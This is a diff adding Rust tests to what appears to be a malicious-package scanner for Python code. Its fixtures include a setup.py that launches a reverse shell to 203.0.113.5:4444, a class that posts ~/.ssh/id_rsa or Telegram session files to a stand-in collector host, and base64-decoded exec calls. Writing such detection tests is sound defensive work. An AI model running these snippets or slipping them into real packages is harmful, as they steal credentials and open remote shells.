@@ -1392,6 +1392,17 @@ fn a_builtin_fetched_by_name_is_not_every_method_of_the_file() {
                def __init__(self, blob):\n        self._read(base64.b64decode(blob))\n    \
                def _read(self, data):\n        return len(data)\n";
     assert!(!rules(own).iter().any(|(r, _)| *r == "exec-decoded"), "{:?}", rules(own));
+    // Called straight from the lookup, or from a table filled from builtins.
+    let direct = "import builtins, base64\ndef go(name, blob):\n    getattr(builtins, name)(base64.b64decode(blob))\n";
+    assert!(rules(direct).contains(&("exec-decoded", Severity::Critical)), "{:?}", rules(direct));
+    let table = "import builtins, base64\nRUN = {'x': getattr(builtins, 'ex' + 'ec')}\n\
+                 def go(k, blob):\n    RUN[k](base64.b64decode(blob))\n";
+    assert!(rules(table).contains(&("exec-decoded", Severity::Critical)), "{:?}", rules(table));
+    // A table of the object's own handlers, in a file that also fetches a
+    // builtin by name, is not that builtin (reportlab's `self.specials[k](...)`).
+    let handlers = "import builtins, base64\nrun_code = getattr(builtins, 'exec')\nclass Doc:\n    \
+                    def show(self, k, blob):\n        self.specials[k](self, k, base64.b64decode(blob))\n";
+    assert!(!rules(handlers).iter().any(|(r, _)| *r == "exec-decoded"), "{:?}", rules(handlers));
     let attribute = own.replace("self._read(base64.b64decode(blob))", "self._image.convert(base64.b64decode(blob))");
     assert_ne!(attribute, own);
     assert!(!rules(&attribute).iter().any(|(r, _)| *r == "exec-decoded"), "{:?}", rules(&attribute));
@@ -1668,4 +1679,52 @@ fn what_is_sent_to_this_machine_does_not_leave_it() {
     // A placeholder `0.0.0.0` is not this machine's address.
     let placeholder = loopback_ip.replace("127.0.0.1", "0.0.0.0");
     assert_eq!(exfiltration(&placeholder), Some(Severity::Critical));
+}
+
+/// `self.send(path)` hands `path` to the method `send` of the file's class:
+/// a credential store read there and posted to an address written in the
+/// code is exfiltration, as with a plain function. A Telegram session file
+/// (`f"{name}.session"`) is such a store. Written for the test.
+#[test]
+fn arguments_reach_the_methods_a_class_calls_through_self() {
+    let exfiltration = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/client.py", bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
+    };
+    let class = "import os, requests\nHOOK = 'https://collector.example.invalid/up'\nclass Spy:\n    \
+                 def run(self):\n        self._send_file(STORE)\n    \
+                 def _send_file(self, path):\n        with open(path, 'rb') as f:\n            \
+                 requests.post(HOOK, files={'document': f})\n";
+    for store in ["os.path.expanduser('~/.ssh/id_rsa')", "f'{self.name}.session'"] {
+        let src = class.replace("STORE", store);
+        assert_eq!(exfiltration(&src), Some(Severity::Critical), "{src}");
+    }
+    // A file the class names that is no store; and a module path that ends in `.session`.
+    for other in ["'report.txt'", "'sqlalchemy.orm.session'"] {
+        let src = class.replace("STORE", other);
+        assert_eq!(exfiltration(&src), None, "{src}");
+    }
+}
+
+/// Code handed to another interpreter from a variable (`['python3', '-c',
+/// CODE]`) is read like code written in the argument list; a script with
+/// no extension that Python runs (`#!/usr/bin/env python`, what
+/// `setup(scripts=[...])` installs) is read like a `.py` file. Written for
+/// the test.
+#[test]
+fn code_run_by_python_c_from_a_variable_and_extensionless_scripts_are_read() {
+    let rules = |path: &str, src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+        report.findings.iter().map(|f| f.rule).collect::<Vec<_>>()
+    };
+    let shell = "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n\
+                 os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n";
+    let setup = format!("import subprocess\nCODE = '''\n{shell}'''\nsubprocess.Popen(['python3', '-c', CODE])\n");
+    assert!(rules("setup.py", &setup).contains(&"reverse-shell"), "{:?}", rules("setup.py", &setup));
+    let script = "#!/usr/bin/env python\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
+    assert!(rules("scripts/tool", script).contains(&"exec-decoded"), "{:?}", rules("scripts/tool", script));
+    // A shell script, and a data file with a dot in its name, are not Python.
+    let sh = script.replace("#!/usr/bin/env python", "#!/bin/sh");
+    assert!(!rules("scripts/tool", &sh).contains(&"exec-decoded"));
+    assert!(!rules("scripts/tool.txt", script).contains(&"exec-decoded"));
 }
